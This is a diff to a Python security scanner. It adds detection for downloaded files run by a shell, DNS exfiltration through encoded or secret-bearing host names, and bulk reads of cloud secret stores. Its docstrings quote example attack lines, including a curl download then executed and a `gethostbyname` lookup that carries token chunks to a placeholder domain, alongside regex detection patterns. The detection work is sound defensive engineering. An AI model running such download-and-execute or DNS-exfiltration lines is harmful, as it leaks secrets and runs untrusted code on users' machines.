@@ -18,10 +18,17 @@ _ENV_HIJACK = frozenset({"LD_PRELOAD", "LD_AUDIT", "LD_LIBRARY_PATH", "DYLD_INSE
                          "GIT_CONFIG_PARAMETERS", "GIT_EXTERNAL_DIFF", "GIT_PROXY_COMMAND", "LESSOPEN"})
 # content that came off the network rather than out of a decoder
 _FETCHED = re.compile(r"urlopen|urlretrieve|requests\.|httpx\.|aiohttp|\.get\(|\.text\b|\.content\b|\.iter_content|"
-                      r"fetch\(|axios|\.text\(\)|\.arrayBuffer\(\)|\.body\b")
+                      r"fetch\(|axios|\.text\(\)|\.arrayBuffer\(\)|\.body\b|\bcurl\b|\bwget\b")
 # iterables that may be a listing of a store's items (a call, or a page or field of one)
 _LISTED = frozenset({"call", "call_expression", "subscript", "subscript_expression", "member_expression", "attribute",
                      "await", "await_expression"})
+_IDENT = re.compile(r"[A-Za-z_$][\w$]*")
+# a host name carrying data: hex/base32/base64 encoded, or cut into label-sized chunks
+_ENCODED_NAME = re.compile(r"hexlify|b(?:16|32|64|85)encode|\.hex\(\)|toString\(\s*['\"](?:hex|base64|base64url)['\"]|"
+                           r"\bbtoa\(|base32|\[\s*[\w.]+\s*:\s*[\w.]+\s*\+|\.(?:slice|substr|substring)\(\s*\w+\s*,\s*\w+\s*\+")
+# a secret read from the environment (`os.environ["GITHUB_TOKEN"]`, `process.env.NPM_TOKEN`)
+_ENV_SECRET = re.compile(r"(?:environ|getenv|process\.env|Deno\.env|Bun\.env)\W{1,8}\w*(?i:token|secret|passw|api_?key|"
+                         r"access_?key|private_?key|credential)")
 _SEGMENTS = re.compile(r"[;&|\n]+")  # the simple commands of a command line, near enough
 _GLOB_TAIL = re.compile(r"(/\*\*?)+$")  # ~/* and ~/** list the home itself
 _SHELL_FLAGS = re.compile(r"-[a-z]*c")  # sh -c, bash -lc, sh -ec
@@ -203,6 +210,32 @@ class CodeAnalysis:
                 continue
             self._runs_written([paths.normalize(argv[i]) for i in run_operands(argv)], node, what)
 
+    def command_line(self, line: str, node, what: str) -> None:
+        """A command line the code runs, one of several: it may run a file this code wrote or an earlier
+        command downloaded (zx's `curl -o /tmp/.b URL`, then `sh /tmp/.b`), which no one command shows."""
+        if self.written:
+            self._runs_written_line(line, node, what)
+        if "curl" not in line and "wget" not in line:
+            return
+        for segment in _SEGMENTS.split(line):
+            try:
+                fetched = download_option(shlex.split(segment))
+            except ValueError:
+                continue
+            if fetched is not None:  # remembered as written with the command's text, which names its fetcher
+                self.written[paths.normalize(fetched)] = node
+
+    def argv_line(self, argv: list[str | None], node, what: str) -> None:
+        """An argv the code runs: a download it makes (`curl -o F`), and the command line a shell in it is given
+        (`sh -c "chmod +x /tmp/.x && /tmp/.x"`), read as `command_line` reads a line."""
+        fetched = download_option(argv)
+        if fetched is not None:
+            self.written[paths.normalize(fetched)] = node
+        at = inline_code_at(argv)
+        if at is not None and argv[at[0]] is not None and (at[1] in SHELL_NAMES or
+                                                           at[1].rsplit("/", 1)[-1] in SHELL_NAMES):
+            self.command_line(argv[at[0]], node, what)
+
     def _npm_script(self, value) -> None:
         """A value under `scripts` of a package.json: npm runs it as a shell command."""
         cmd = self.string(value) if value is not None else None
@@ -236,6 +269,20 @@ class CodeAnalysis:
     def grammar(self) -> str:
         """The grammar the tree was parsed with (a query only matches trees of its own grammar)."""
         return self.ASSIGNMENTS[0]
+
+    def dns_lookup(self, what: str, name, node) -> None:
+        """A DNS lookup of a name built from encoded data (`gethostbyname(f"{i}.{hexlify(tok)[i:i+60]}.t.x")`,
+        `dns.resolve4(`${Buffer.from(k).toString("hex")}.x`)`): every query carries a piece of it to whoever
+        answers for the domain, past any HTTP proxy (DNS exfiltration); so does a name made of a secret from the
+        environment. A name read from configuration is neither."""
+        if name is None or self.string(name) is not None:
+            return
+        texts = [self.src(name)]
+        for ident in set(_IDENT.findall(texts[0])) & self.bound.keys():
+            texts.append(self.src(self.bound[ident]))  # h = binascii.hexlify(tok).decode()
+        if any(_ENCODED_NAME.search(t) or _ENV_SECRET.search(t) for t in texts):
+            self.block("exfiltration", f"`{what}` looks up a name built from a secret or encoded data: each DNS query "
+                                       "carries it to whoever runs that domain; never send data off the machine", node)
 
     def metadata_url(self, value: str | None, node) -> None:
         """A string naming the instance's credentials at a cloud metadata address (`http://169.254.169.254/latest/
@@ -702,10 +749,18 @@ def download_option(argv: list[str | None]) -> str | None:
     """The file `curl -o F` / `wget -O F` writes the download to."""
     if not argv or argv[0] is None or argv[0].rsplit("/", 1)[-1] not in ("curl", "wget"):
         return None
-    opts = ("-o", "--output") if argv[0].rsplit("/", 1)[-1] == "curl" else ("-O", "--output-document")
-    for i, a in enumerate(argv[:-1]):
-        if a in opts:
-            return argv[i + 1]
+    curl = argv[0].rsplit("/", 1)[-1] == "curl"
+    letter, long, flags = ("o", "--output", _CURL_FLAGS) if curl else ("O", "--output-document", _WGET_FLAGS)
+    for i, a in enumerate(argv):
+        if a is None or a[:1] != "-" or a == "-":
+            continue
+        if a.startswith(long + "="):
+            return a[len(long) + 1:]
+        if a == long:
+            return argv[i + 1] if i + 1 < len(argv) else None
+        at = a.find(letter, 1) if a[1:2] != "-" else -1
+        if at > 0 and set(a[1:at]) <= flags:  # -o F, -sSo F, -qO F, -ofile, -qO/tmp/x (after options taking no value)
+            return a[at + 1:] or (argv[i + 1] if i + 1 < len(argv) else None)
     return None
 
 
@@ -741,6 +796,30 @@ def ephemeral_db(value: str | None, text: str) -> bool:
 PROVIDERS = {"aws": "AWS", "gcp": "Google Cloud", "azure": "Azure", "k8s": "the Kubernetes cluster",
              "github": "GitHub", "stripe": "Stripe"}
 # item-level deletes: one object, message or row named by its key, the everyday way these stores
+# -- secret stores read whole ------------------------------------------------------------------
+# the calls of the secret stores' SDKs that return a secret's value (Vault's hvac, AWS Secrets Manager and
+# SSM, GCP Secret Manager, Azure Key Vault; Python and TypeScript spellings)
+SECRET_READS = frozenset({"read_secret_version", "read_secret", "get_secret_value", "access_secret_version",
+                          "get_secret", "batch_get_secret_value", "get_parameters_by_path", "getSecretValue",
+                          "accessSecretVersion", "getSecret", "GetSecretValueCommand",
+                          "BatchGetSecretValueCommand", "GetParametersByPathCommand"})
+_STORE_LISTS = re.compile(rb"\b(?:list_secrets|list_properties_of_secrets|list_secret_versions|listSecrets|"
+                          rb"listPropertiesOfSecrets|ListSecretsCommand)\b")
+
+
+def store_dump(data: bytes, meth: str, call_text: str) -> bool:
+    """Does code that reads a secret's value with `meth` read the whole store: a listing of every secret read
+    one by one (`{k: c.secrets.kv.v2.read_secret_version(path=k) for k in keys}` after `list_secrets`), or SSM's
+    whole tree decrypted? One secret read to call its API is what such SDKs are for."""
+    if meth in ("get_parameters_by_path", "GetParametersByPathCommand"):
+        return re.search(r"WithDecryption\W+True|WithDecryption\W+true", call_text) is not None
+    return _STORE_LISTS.search(data) is not None
+
+
+_CURL_FLAGS = frozenset("sSfLkvgiIqNR#46")  # curl's and wget's short options that take no value
+_WGET_FLAGS = frozenset("qvcnNrkSxEmpKb46")
+
+
 # are used (like `os.remove` of one file or `DELETE … WHERE id = %s`); a person is asked about the
 # containers and the mass deletes
 ITEM_DELETES = frozenset({"deleteobject", "deletemessage", "deletemessagebatch", "deleteitem", "deleteobjecttagging",
